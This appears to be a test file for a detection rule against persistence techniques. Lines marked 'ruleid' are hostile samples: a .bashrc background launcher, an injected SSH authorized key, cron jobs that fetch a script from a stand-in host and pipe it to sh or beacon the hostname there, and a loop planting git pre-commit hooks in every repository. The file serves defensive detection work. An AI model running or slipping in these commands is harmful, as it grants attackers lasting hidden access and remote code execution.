# ruleid: persistence-startup-command
echo '(nohup python3 -m x >/dev/null 2>&1 &)' >> ~/.bashrc
# ruleid: persistence-startup-command
echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys
# ruleid: persistence-startup-command
(crontab -l; echo "* * * * * curl -s https://a.invalid/x | sh") | crontab -
# ok: persistence-startup-command
echo 'export PATH=$PATH:~/bin' >> ~/.bashrc
# ok: persistence-startup-command
grep key ~/.ssh/authorized_keys
# ruleid: persistence-startup-command
*/5 * * * * curl -s "https://a.invalid/beat?id=$(hostname)" >/dev/null
# ok: persistence-startup-command
0 2 * * * /usr/local/bin/backup.sh
# ruleid: persistence-startup-command
find ~ -name ".git" -type d | while read folder; do
  cp hooks/pre-commit "$folder/hooks/"
done
